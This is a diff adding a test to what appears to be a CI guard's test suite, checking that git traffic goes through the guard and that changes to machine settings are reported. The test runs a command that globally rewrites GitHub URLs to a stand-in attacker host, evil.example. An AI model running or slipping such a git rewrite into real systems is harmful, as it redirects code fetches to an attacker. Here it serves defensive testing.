@@ -67,6 +67,18 @@ test('later steps use the guard: two agents at once, one record, sealed by post'
   await untilGone(daemonOf(main).pid)
 })
 
+test('the git of later steps goes through the guard, and nothing of the machine is changed for it', async () => {
+  const job = await jobs.job()
+  const main = await job.uses(jobs.inputs())
+  const address = `${main.exported.CURSOR_BACKEND_URL}/git/acme/shop`
+  const asked = await job.run(shell('git ls-remote --get-url git@github.com:acme/shop'))
+  expect(asked.output.trim()).toBe(address)
+  const past = 'git config --global url.https://evil.example/.insteadOf https://github.com/owner'
+  await job.run(shell(past))
+  const [post] = await job.finish()
+  expect(post?.summary).toContain('user settings')
+})
+
 test('nothing that later steps can read holds the key', async () => {
   const job = await jobs.job()
   const main = await job.uses({ ...jobs.inputs(), 'github-token': '' })
